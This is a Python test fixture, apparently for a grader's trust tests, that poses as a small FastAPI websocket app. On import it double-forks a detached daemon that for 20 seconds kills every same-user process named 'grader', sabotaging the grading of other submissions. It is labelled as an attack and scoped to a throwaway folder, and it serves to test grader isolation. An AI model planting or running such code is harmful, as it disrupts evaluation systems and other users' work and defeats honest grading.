# attack: a setsid double-forked daemon that, for 20 s, SIGKILLs every grader process of its own user it can see (later submissions' hosts); for safety never a root process nor one that is not the grader's
# honest: fail
# ruff: noqa
import os
import posix
import sys

from fastapi import FastAPI, WebSocket


# --- test rig: tests/test_trust.py says where things are, in the environment and in
# "# hostile-<key>: <value>" lines it appends to this file. Attempts only ever touch
# paths inside its throwaway folder (the one holding a HOSTILE_PLAYGROUND file). ---
def _rig(key):
    value = os.environ.get("HOSTILE_" + key.upper().replace("-", "_"))
    if value:
        return value
    try:
        with open(__file__, encoding="utf-8") as source:
            for line in source:
                if line.startswith(f"# hostile-{key}: "):
                    return line.split(": ", 1)[1].strip()
    except OSError:
        pass
    return None


def _playground(path):
    folder = os.path.realpath(path)
    while True:
        if os.path.exists(os.path.join(folder, "HOSTILE_PLAYGROUND")):
            return True
        parent = os.path.dirname(folder)
        if parent == folder:
            return False
        folder = parent


DAEMON = r"""
import os, signal, sys, time
me, uid = os.getpid(), os.getuid()
end = time.monotonic() + 20
while time.monotonic() < end and uid != 0:
    time.sleep(0.005)
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (me, 1):
            continue
        try:
            if os.stat(f"/proc/{name}").st_uid != uid:
                continue
            with open(f"/proc/{name}/cmdline", "rb") as f:
                if b"grader" not in f.read():
                    continue
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
"""


def _daemonize():
    marker = _rig("marker") or "none"
    try:
        first = os.fork()
    except OSError:
        return
    if first:
        try:
            os.waitpid(first, 0)
        except OSError:
            pass
        return
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", DAEMON, f"hostile-{marker}"])
    except BaseException:
        pass
    posix._exit(0)


_daemonize()
app = FastAPI()


@app.websocket("/ws")
async def ws(websocket: WebSocket):
    await websocket.accept()
    await websocket.close()
